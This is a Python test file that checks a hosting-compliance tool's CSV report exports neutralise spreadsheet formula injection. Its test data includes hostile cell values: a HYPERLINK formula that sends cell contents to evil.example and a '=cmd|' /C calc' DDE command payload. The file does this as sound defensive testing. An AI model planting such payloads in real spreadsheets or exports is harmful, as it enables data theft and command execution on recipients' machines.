"""PROTOCOL 13.2: text from outside lands in CSV files neutralised (a leading apostrophe before
``=``, ``+``, ``-``, ``@``, tab or carriage return), in the flat report CSV and in the
Commission's files; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from hoster_compliance.report import build_report, render_csv, write_dsa_csv
from hoster_compliance.report.render import text_cell
from tests.helpers.report import SPEECH, T, add_order, utc

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Holocaust denial", "Holocaust denial"), ("a=b", "a=b"), ("", ""),
])
def test_text_cell(value: str, expected: str) -> None:
    assert text_cell(value) == expected


def _report(engine: Engine) -> dict[str, object]:
    for text in HOSTILE:
        add_order(engine, T, ms="NL", category=SPEECH, subcategory="KEYWORD_OTHER", other=text)
    return build_report(engine, date(2026, 1, 1), date(2026, 12, 31), now=utc(2027, 1, 15))


def test_commission_files_neutralise_subcategory_other(
    report_engine: Engine, tmp_path: Path
) -> None:
    paths = write_dsa_csv(_report(report_engine), tmp_path, service_name="=cmd|' /C calc'!A0",
                          provider_name="Example Hosting B.V.", published=date(2027, 1, 20))
    with paths[1].open(encoding="utf-8", newline="") as handle:
        part_3 = list(csv.reader(handle))[1:]
    descriptions = {row[4] for row in part_3 if row[3] == "KEYWORD_OTHER" and row[4]}
    assert {"'" + text for text in HOSTILE} <= descriptions
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in part_3 for cell in row)
    assert {row[1] for row in part_3} == {"'=cmd|' /C calc'!A0"}
    counts = [row[6] for row in part_3 if row[4] == "'" + HOSTILE[0]]
    assert counts == ["1", "1"]  # TOTAL and NL: numbers untouched


def test_flat_csv_neutralises_descriptions_not_numbers(report_engine: Engine) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(_report(report_engine)))))
    descriptions = {row[4] for row in rows[1:] if row[4]}
    assert descriptions == {"'" + text for text in HOSTILE}
    values = [row[6] for row in rows[1:] if row[5] == "count"]
    assert values and all(value.isdigit() for value in values)
